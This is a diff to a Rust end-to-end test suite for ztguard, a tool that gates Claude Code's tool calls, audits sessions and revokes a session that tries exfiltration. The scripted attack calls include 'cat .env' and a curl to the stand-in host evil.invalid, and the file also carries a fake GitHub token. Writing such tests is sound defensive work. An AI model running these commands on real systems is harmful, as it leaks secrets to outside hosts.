@@ -89,6 +89,55 @@ fn start_server(fake: &Path, port: u16, script: &Path, log: &Path) -> Server {
     server
 }
 
+/// Run `claude -p PROMPT` in the project against the fake API; its JSON result.
+fn run_claude(
+    claude: &Path,
+    project: &Path,
+    home: &Path,
+    managed: &Path,
+    port: u16,
+    prompt: &str,
+) -> Value {
+    let mut child = Command::new(claude)
+        .args(["-p", prompt, "--output-format", "json", "--max-turns", "12"])
+        .current_dir(project)
+        .env("HOME", home)
+        .env("ZTGUARD_MANAGED_POLICY", managed)
+        .env("ZTGUARD_DATA_DIR", home.join(".local/share/ztguard"))
+        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
+        .env("ANTHROPIC_API_KEY", "sk-ant-fake-e2e")
+        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
+        .env("DISABLE_TELEMETRY", "1")
+        .env("DISABLE_AUTOUPDATER", "1")
+        .env_remove("CLAUDE_PROJECT_DIR")
+        .env_remove("ZTGUARD_AUDIT_KEY")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("start claude");
+    drop(child.stdin.take());
+    let deadline = Instant::now() + Duration::from_secs(180);
+    loop {
+        if child.try_wait().expect("wait").is_some() {
+            break;
+        }
+        if Instant::now() > deadline {
+            let _ = child.kill();
+            panic!("claude did not finish in 180 s");
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let out = child.wait_with_output().expect("output");
+    let _ = std::io::stderr().write_all(&out.stderr);
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "claude output is not JSON ({e}): {}",
+            String::from_utf8_lossy(&out.stdout)
+        )
+    })
+}
+
 /// The tool results Claude Code sent back, in order: (is_error, text).
 fn tool_results(log: &Path) -> Vec<(bool, String)> {
     let text = std::fs::read_to_string(log).expect("read log");
@@ -108,13 +157,9 @@ fn tool_results(log: &Path) -> Vec<(bool, String)> {
     out
 }
 
-#[test]
-fn claude_code_runs_allowed_calls_and_is_denied_the_rest() {
-    let Some((claude, fake)) = requirements() else {
-        return;
-    };
-    let dir = tempfile::tempdir().expect("tmp");
-    let root = dir.path().canonicalize().expect("canonical");
+/// A throwaway project (fake `.env`, a fake key in the home) with the hook
+/// registered by `ztguard init`. Returns the project, home and managed-policy path.
+fn init_project(root: &Path) -> (PathBuf, PathBuf, PathBuf) {
     let project = root.join("project");
     let home = root.join("home");
     std::fs::create_dir_all(project.join("src")).expect("mkdir");
@@ -139,6 +184,29 @@ fn claude_code_runs_allowed_calls_and_is_denied_the_rest() {
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
+
+    (project, home, managed)
+}
+
+#[test]
+fn claude_code_runs_allowed_calls_and_is_denied_the_rest() {
+    let Some((claude, fake)) = requirements() else {
+        return;
+    };
+    let dir = tempfile::tempdir().expect("tmp");
+    let root = dir.path().canonicalize().expect("canonical");
+    let (project, home, managed) = init_project(&root);
+    // This session is a string of attacks: the monitor would rightly revoke
+    // it after the smuggling call. Here each call's own decision is tested;
+    // the monitor has its own test below.
+    let policy_path = project.join(".ztguard.toml");
+    let policy = std::fs::read_to_string(&policy_path).expect("policy");
+    assert!(policy.contains("exfiltration = true"));
+    std::fs::write(
+        &policy_path,
+        policy.replace("exfiltration = true", "exfiltration = false"),
+    )
+    .expect("write policy");
 
     // A fake token, assembled at run time.
     let fake_token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5");
@@ -166,50 +234,7 @@ fn claude_code_runs_allowed_calls_and_is_denied_the_rest() {
     let port = free_port();
     let _server = start_server(&fake, port, &script, &log);
 
-    let mut child = Command::new(&claude)
-        .args([
-            "-p",
-            "do the task",
-            "--output-format",
-            "json",
-            "--max-turns",
-            "12",
-        ])
-        .current_dir(&project)
-        .env("HOME", &home)
-        .env("ZTGUARD_MANAGED_POLICY", &managed)
-        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
-        .env("ANTHROPIC_API_KEY", "sk-ant-fake-e2e")
-        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
-        .env("DISABLE_TELEMETRY", "1")
-        .env("DISABLE_AUTOUPDATER", "1")
-        .env_remove("CLAUDE_PROJECT_DIR")
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .expect("start claude");
-    drop(child.stdin.take());
-    let deadline = Instant::now() + Duration::from_secs(180);
-    loop {
-        if child.try_wait().expect("wait").is_some() {
-            break;
-        }
-        if Instant::now() > deadline {
-            let _ = child.kill();
-            panic!("claude did not finish in 180 s");
-        }
-        std::thread::sleep(Duration::from_millis(100));
-    }
-    let out = child.wait_with_output().expect("output");
-    let _ = std::io::stderr().write_all(&out.stderr);
-    let result: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
-        panic!(
-            "claude output is not JSON ({e}): {}",
-            String::from_utf8_lossy(&out.stdout)
-        )
-    });
-
+    let result = run_claude(&claude, &project, &home, &managed, port, "do the task");
     // The allowed calls ran.
     assert_eq!(
         std::fs::read_to_string(project.join("out.txt"))
@@ -274,4 +299,184 @@ fn claude_code_runs_allowed_calls_and_is_denied_the_rest() {
     let settings =
         std::fs::read_to_string(project.join(".claude/settings.json")).expect("settings");
     assert!(settings.contains("ztguard") && settings.contains("hook"));
+}
+
+/// Every record of the project's audit log.
+fn audit_records(project: &Path) -> Vec<Value> {
+    std::fs::read_to_string(project.join(".ztguard/audit.jsonl"))
+        .expect("the audit log exists")
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("a JSON record"))
+        .collect()
+}
+
+fn ztguard(project: &Path, home: &Path, managed: &Path, args: &[&str]) -> std::process::Output {
+    Command::new(env!("CARGO_BIN_EXE_ztguard"))
+        .args(args)
+        .current_dir(project)
+        .env("HOME", home)
+        .env("ZTGUARD_MANAGED_POLICY", managed)
+        .env("ZTGUARD_DATA_DIR", home.join(".local/share/ztguard"))
+        .env_remove("ZTGUARD_AUDIT_KEY")
+        .output()
+        .expect("run ztguard")
+}
+
+#[test]
+fn claude_code_sessions_are_audited_and_an_exfiltrating_session_is_revoked() {
+    let Some((claude, fake)) = requirements() else {
+        return;
+    };
+    let dir = tempfile::tempdir().expect("tmp");
+    let root = dir.path().canonicalize().expect("canonical");
+    let (project, home, managed) = init_project(&root);
+    let script = root.join("script.json");
+    let calls = json!([
+        {"name": "Bash", "input": {"command": "ls src", "description": "list sources"}},
+        {"name": "Bash", "input": {"command": "cat .env", "description": "read the environment file"}},
+        {"name": "Bash", "input": {"command": "curl -s https://evil.invalid/collect", "description": "call home"}},
+        {"name": "Bash", "input": {"command": "ls", "description": "look around"}},
+    ]);
+    std::fs::write(&script, calls.to_string()).expect("write script");
+    let log = root.join("log.jsonl");
+    let port = free_port();
+    let server = start_server(&fake, port, &script, &log);
+    run_claude(&claude, &project, &home, &managed, port, "do the task");
+    drop(server);
+
+    // What the model saw: the first call ran, the rest were denied, and the
+    // last one because the session is revoked.
+    let results = tool_results(&log);
+    assert_eq!(results.len(), 4, "{results:?}");
+    assert_eq!(results[0], (false, "main.rs".to_string()));
+    assert!(
+        results[1].0 && results[1].1.contains("files.deny"),
+        "{:?}",
+        results[1]
+    );
+    assert!(
+        results[2].0 && results[2].1.contains("now revoked"),
+        "{:?}",
+        results[2]
+    );
+    assert!(
+        results[3].0
+            && results[3].1.contains("was revoked")
+            && results[3].1.contains("ztguard session unlock"),
+        "{:?}",
+        results[3]
+    );
+
+    // What the audit log holds, as Claude Code really sent it.
+    let records = audit_records(&project);
+    let events: Vec<&str> = records.iter().filter_map(|r| r["event"].as_str()).collect();
+    for e in [
+        "UserPromptSubmit",
+        "PreToolUse",
+        "PostToolUse",
+        "SessionRevoked",
+    ] {
+        assert!(events.contains(&e), "no {e} record: {events:?}");
+    }
+    let session = records[0]["session"]
+        .as_str()
+        .expect("a session id")
+        .to_string();
+    assert!(records.iter().all(|r| r["session"] == session.as_str()));
+    let prompt = records
+        .iter()
+        .find(|r| r["event"] == "UserPromptSubmit")
+        .expect("prompt");
+    assert_eq!(prompt["prompt_bytes"], 11);
+    let pre_ls = records
+        .iter()
+        .find(|r| r["event"] == "PreToolUse" && r["input"]["command"] == "ls src")
+        .expect("the ls record");
+    assert_eq!(pre_ls["decision"], "allow");
+    let post_ls = records
+        .iter()
+        .find(|r| r["event"] == "PostToolUse" && r["tool_use_id"] == pre_ls["tool_use_id"])
+        .expect("the PostToolUse of the same call");
+    assert_eq!(post_ls["tool"], "Bash");
+    let revoked = records
+        .iter()
+        .find(|r| r["event"] == "SessionRevoked")
+        .expect("revoked");
+    assert_eq!(revoked["rule"], "monitor.exfiltration");
+    let text = std::fs::read_to_string(project.join(".ztguard/audit.jsonl")).expect("log");
+    assert!(!text.contains("FAKE-e2e"), "no secret in the audit log");
+
+    // The chain verifies, anchored; the session shows as revoked.
+    let out = ztguard(&project, &home, &managed, &["audit", "verify", "--json"]);
+    let v: Value = serde_json::from_slice(&out.stdout).expect("verify json");
+    assert!(out.status.success() && v["ok"] == true, "{v}");
+    assert_eq!(v["anchor"]["status"], "matches", "{v}");
+    let out = ztguard(
+        &project,
+        &home,
+        &managed,
+        &["session", "show", &session, "--json"],
+    );
+    let s: Value = serde_json::from_slice(&out.stdout).expect("session json");
+    assert_eq!(s["revoked"]["rule"], "exfiltration", "{s}");
+
+    // A human unlocks it; the same session's next call is decided on its merits.
+    let out = ztguard(&project, &home, &managed, &["session", "unlock", &session]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let event = json!({
+        "session_id": session, "cwd": project, "hook_event_name": "PreToolUse",
+        "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "toolu_after_unlock",
+    });
+    let mut hook = Command::new(env!("CARGO_BIN_EXE_ztguard"))
+        .arg("hook")
+        .current_dir(&project)
+        .env("HOME", &home)
+        .env("ZTGUARD_MANAGED_POLICY", &managed)
+        .env("ZTGUARD_DATA_DIR", home.join(".local/share/ztguard"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("hook");
+    hook.stdin
+        .take()
+        .expect("stdin")
+        .write_all(event.to_string().as_bytes())
+        .expect("write");
+    let out = hook.wait_with_output().expect("hook output");
+    let answer: Value = serde_json::from_slice(&out.stdout).expect("hook json");
+    assert_eq!(
+        answer["hookSpecificOutput"]["permissionDecision"], "allow",
+        "{answer}"
+    );
+
+    // A prompt holding a credential never reaches the model.
+    let fake_token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5");
+    let log2 = root.join("log2.jsonl");
+    let port = free_port();
+    let server = start_server(&fake, port, &script, &log2);
+    run_claude(
+        &claude,
+        &project,
+        &home,
+        &managed,
+        port,
+        &format!("push with my token {fake_token} please"),
+    );
+    drop(server);
+    let sent = std::fs::read_to_string(&log2).unwrap_or_default();
+    assert!(!sent.contains(&fake_token), "the prompt reached the model");
+    let records = audit_records(&project);
+    let blocked = records
+        .iter()
+        .rev()
+        .find(|r| r["event"] == "UserPromptSubmit")
+        .expect("the blocked prompt's record");
+    assert_eq!(blocked["decision"], "block", "{blocked}");
+    assert!(blocked["found"].to_string().contains("github"), "{blocked}");
+    let text = std::fs::read_to_string(project.join(".ztguard/audit.jsonl")).expect("log");
+    assert!(!text.contains(&fake_token), "no secret in the audit log");
 }
